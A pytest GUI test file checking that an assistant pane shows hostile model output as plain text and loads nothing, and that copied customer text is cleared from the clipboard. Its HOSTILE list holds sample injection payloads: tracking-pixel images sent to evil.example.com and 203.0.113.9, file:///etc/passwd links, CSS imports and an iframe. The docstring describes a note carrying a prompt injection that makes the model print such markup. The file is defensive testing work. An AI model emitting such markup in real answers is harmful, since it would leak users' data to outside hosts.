"""Hostile model output renders inert: no link opens, no image or file loads, nothing is fetched.

A note can carry an injection that makes the model print HTML, Markdown images or file
links. The answer goes through the real streaming path of the assistant pane.
"""

from __future__ import annotations

import struct
import zlib

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage, QPixmap, QTextDocument

from app.core.assistant.generation import TaskResult
from app.core.llm.events import AnswerChunk, Done, ReasoningChunk
from app.core.privacy import netguard
from app.gui.assistant_pane import AssistantPane
from app.gui.safe_text import SafeTextView
from app.gui.session import Session

pytestmark = pytest.mark.gui

HOSTILE = [
    '<img src="http://203.0.113.9/pixel.png?who=kari">',
    "![tracker](https://evil.example.com/t.png)",
    '<a href="file:///etc/passwd">open the contract</a>',
    '<link rel="stylesheet" href="http://evil.example.com/s.css">',
    "<style>@import url(http://evil.example.com/x.css);</style>",
    '<iframe src="http://evil.example.com/"></iframe> [n999]',
]


def _png(path) -> None:
    raw = b"\x00\xff\x00\x00"
    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))  # noqa: E731
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _has_images_or_links(doc: QTextDocument) -> bool:
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isImageFormat() or fmt.isAnchor():
                return True
            it += 1
        block = block.next()
    return False


def test_hostile_answer_streams_in_as_plain_text(qtbot):
    pane = AssistantPane(Session())
    qtbot.addWidget(pane)
    pane.show()
    before = netguard.status()["blocked_attempts"]
    text = "\n".join(HOSTILE)
    pane._event(ReasoningChunk('<img src="http://evil.example.com/r.png">'))
    for line in HOSTILE:
        pane._event(AnswerChunk(line + "\n"))
    shown = text.replace(" [n999]", "")  # a note reference is never shown as markup (a chip instead)
    qtbot.waitUntil(lambda: pane.answer.text() == shown + "\n", timeout=5000)
    pane._event(Done("stop", 10, 1, 20, 0.1, 0.2, 1.0))
    pane._finished(TaskResult(conversation_id=1, task="ask", text=text, flags=[{"kind": "instruction_like", "note_id": 7}]))
    pane.reasoning_toggle.setChecked(True)
    pane.grab()  # lay out and paint: the moment a resource would be requested

    for view in (pane.answer, pane.reasoning):
        assert view.blocked_resources == []  # nothing even asked for: the text is text
        assert not _has_images_or_links(view.document())
        assert not view.openLinks() and not view.openExternalLinks()
    assert pane.answer.text() == shown  # every tag shown literally, nothing else dropped
    assert "<img" in pane.reasoning.text()
    assert "looks like an instruction to the assistant" in pane.flags.text()
    assert netguard.status()["blocked_attempts"] == before


def test_even_rich_text_cannot_load_a_file_or_remote_resource(qtbot, tmp_path):
    image = tmp_path / "secret.png"
    _png(image)
    view = SafeTextView()
    qtbot.addWidget(view)
    view.show()
    # If someone ever rendered HTML into the view, the resource hook still loads nothing.
    view.setHtml(f'<p>x</p><img src="{QUrl.fromLocalFile(str(image)).toString()}"><img src="http://203.0.113.9/a.png">')
    view.grab()
    assert any(u.endswith("secret.png") for u in view.blocked_resources)
    assert any("203.0.113.9" in u for u in view.blocked_resources)
    loaded = view.document().resource(QTextDocument.ResourceType.ImageResource.value, QUrl.fromLocalFile(str(image)))
    # What the document holds is the blank stand-in, not the file's green pixel.
    pixel = QImage(loaded).pixelColor(0, 0) if isinstance(loaded, QImage) else QPixmap(loaded).toImage().pixelColor(0, 0)
    assert pixel.alpha() == 0 and pixel.green() != 255
    # Clicking a link is never followed: the view has no source to change to.
    view.setHtml('<a href="file:///etc/passwd">x</a>')
    view.setSource(QUrl("file:///etc/passwd"))
    assert "root:" not in view.toPlainText()


def _formats(doc: QTextDocument) -> list[tuple[str, bool, bool, bool]]:
    """(text, bold, italic, in a list) for every fragment."""
    out = []
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            frag = it.fragment()
            fmt = frag.charFormat()
            out.append((frag.text(), fmt.fontWeight() >= 600, fmt.fontItalic(), block.textList() is not None))
            it += 1
        block = block.next()
    return out


def test_markdown_subset_is_rendered_and_links_images_html_stay_literal(qtbot):
    from app.gui.safe_text import markdown_plain

    view = SafeTextView(markdown=True)
    qtbot.addWidget(view)
    view.show()
    answer = ("# Follow-up\n\nHi Kari,\n\nThanks for the **pilot** talk; the *two depots* are:\n\n"
              "- Bergen\n- Ålesund\n\n1. Send `prices`\n2. Book a call\n\n" + "\n".join(HOSTILE))
    for i in range(0, len(answer), 7):  # streamed in small chunks, as the model writes
        view.append_text(answer[i:i + 7])
    view.grab()
    frags = _formats(view.document())
    assert ("pilot", True, False, False) in frags and ("two depots", False, True, False) in frags
    assert ("Follow-up", True, False, False) in frags
    assert ("Bergen", False, False, True) in frags and ("Book a call", False, False, True) in frags
    shown = view.text()
    assert "**" not in shown and "# Follow-up" not in shown
    for line in HOSTILE:  # links, images and HTML are characters, never rendered
        assert line in shown
    assert view.blocked_resources == [] and not _has_images_or_links(view.document())
    plain = view.plain_text()
    assert plain == markdown_plain(answer)
    assert "Thanks for the pilot talk; the two depots are:" in plain and "- Bergen" in plain and "Send prices" in plain
    assert "**" not in plain and not plain.startswith("#")


def test_copy_is_marked_sensitive_and_cleared_after_a_while(qtbot):
    from PySide6.QtGui import QGuiApplication

    from app.gui import safe_text

    cb = QGuiApplication.clipboard()
    safe_text.copy_sensitive("Hei Kari, takk for praten.", clear_after_s=0.2)
    mime = cb.mimeData()
    assert cb.text() == "Hei Kari, takk for praten."
    assert bytes(mime.data("x-kde-passwordManagerHint")) == b"secret"
    qtbot.waitUntil(lambda: cb.text() == "", timeout=3000)
    # Something the user copied afterwards elsewhere is left alone.
    safe_text.copy_sensitive("draft", clear_after_s=0.2)
    cb.setText("the user's own text")
    qtbot.wait(400)
    assert cb.text() == "the user's own text"
    safe_text.copy_sensitive("draft again", clear_after_s=60)
    safe_text.clear_copied()  # at lock
    assert cb.text() == ""


def test_ctrl_c_and_the_context_menus_copy_are_marked_sensitive_and_cleared(qtbot, monkeypatch):
    """F12 (pass 2): only the Copy button marked and cleared its copy; Ctrl+C and the context
    menu's Copy in the answer and note views put plain customer text on the clipboard for good."""
    from PySide6.QtCore import Qt
    from PySide6.QtGui import QGuiApplication

    from app.gui import safe_text

    monkeypatch.setattr(safe_text, "CLIPBOARD_CLEAR_S", 0.3)
    cb = QGuiApplication.clipboard()
    view = SafeTextView(markdown=True)
    qtbot.addWidget(view)
    view.set_text("**Kari** sa ja til piloten.")
    view.selectAll()
    qtbot.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert cb.text() == "Kari sa ja til piloten."
    assert bytes(cb.mimeData().data("x-kde-passwordManagerHint")) == b"secret"
    assert not cb.mimeData().hasHtml()
    qtbot.waitUntil(lambda: cb.text() == "", timeout=3000)

    menu = view.createStandardContextMenu()
    (copy,) = [a for a in menu.actions() if a.objectName() == "edit-copy"]
    copy.trigger()
    assert cb.text() == "Kari sa ja til piloten."
    assert bytes(cb.mimeData().data("x-kde-passwordManagerHint")) == b"secret"
    safe_text.clear_copied()  # at lock
    assert cb.text() == ""
